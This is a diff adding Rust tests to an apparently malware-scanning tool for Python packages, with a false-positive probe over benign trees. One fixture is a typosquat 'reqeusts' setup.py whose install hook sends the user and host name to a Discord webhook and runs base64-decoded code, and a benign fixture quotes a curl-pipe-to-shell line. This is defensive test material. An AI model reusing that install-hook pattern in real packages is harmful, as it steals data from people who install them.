@@ -209,4 +209,96 @@ pub(crate) mod testutil {
         ids.dedup();
         assert_eq!(ids.len(), n, "duplicate detector ids");
     }
+
+    /// Run every detector over one file, the way the engine does (prefilter first).
+    pub fn scan_all(path: &str, role: FileRole, text: &str) -> Vec<Got> {
+        super::all()
+            .iter()
+            .flat_map(|d| scan(d.as_ref(), path, role, text))
+            .collect()
+    }
+
+    const DROPPER: &str = "import os, base64, socket, getpass, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        info = {'u': getpass.getuser(), 'h': socket.gethostname()}\n        requests.post('https://discord.com/api/webhooks/1/abc', json=info)\n        exec(base64.b64decode('aW1wb3J0IG9z'))\n        install.run(self)\n\nsetup(name='reqeusts', cmdclass={'install': Post})\n";
+    const BENIGN: &str = "\"\"\"Helpers. See https://example.org/docs and run `curl https://x | sh`.\"\"\"\nimport subprocess  # subprocess.run is used below\n__version__ = '1.2.3.4'\nHOST = '127.0.0.1'\n\ndef version():\n    return eval('1 + 1')\n";
+
+    #[test]
+    fn all_detectors_on_a_dropper_setup_py() {
+        let got = scan_all("reqeusts-1.0/setup.py", FileRole::InstallTime, DROPPER);
+        let mut ids: Vec<_> = got.iter().map(|g| g.id).collect();
+        ids.sort();
+        ids.dedup();
+        assert_eq!(
+            ids,
+            vec![
+                "execution.dynamic-code",
+                "execution.install-hook",
+                "hunting.system-info",
+                "network.exfiltration-endpoint",
+                "obfuscation.decode-exec",
+            ],
+            "{got:#?}"
+        );
+        assert!(got
+            .iter()
+            .any(|g| g.id == "execution.install-hook" && g.severity == Severity::Critical));
+    }
+
+    #[test]
+    fn all_detectors_quiet_on_benign_look_alikes() {
+        let got = scan_all("pkg/util.py", FileRole::Runtime, BENIGN);
+        assert!(got.is_empty(), "{got:#?}");
+    }
+
+    /// False-positive probe over a tree of benign Python (e.g. a CPython `Lib/`):
+    /// `PROBE_DIR=/path cargo test --lib benign_tree_probe -- --ignored --nocapture`.
+    #[test]
+    #[ignore]
+    fn benign_tree_probe() {
+        let Ok(root) = std::env::var("PROBE_DIR") else {
+            return;
+        };
+        let mut stack = vec![std::path::PathBuf::from(root)];
+        let mut counts: std::collections::BTreeMap<&str, usize> = Default::default();
+        let (mut files, mut bytes) = (0usize, 0usize);
+        let t0 = std::time::Instant::now();
+        while let Some(dir) = stack.pop() {
+            let Ok(rd) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            for e in rd.flatten() {
+                let p = e.path();
+                if p.is_dir() {
+                    stack.push(p);
+                    continue;
+                }
+                let Ok(text) = std::fs::read_to_string(&p) else {
+                    continue;
+                };
+                let path = p.to_string_lossy().to_string();
+                let role = if super::pysrc::looks_like_test_path(&path) {
+                    FileRole::TestOrDocs
+                } else {
+                    FileRole::Runtime
+                };
+                files += 1;
+                bytes += text.len();
+                for g in scan_all(&path, role, &text) {
+                    let c = counts.entry(g.id).or_default();
+                    *c += 1;
+                    if *c <= 5 {
+                        eprintln!(
+                            "{} {}:{} [{}] {}",
+                            g.id,
+                            g.path,
+                            g.line.unwrap_or(0),
+                            g.indicator,
+                            g.snippet
+                        );
+                    }
+                }
+            }
+        }
+        eprintln!("{files} files, {bytes} bytes in {:?}", t0.elapsed());
+        eprintln!("{counts:#?}");
+    }
 }
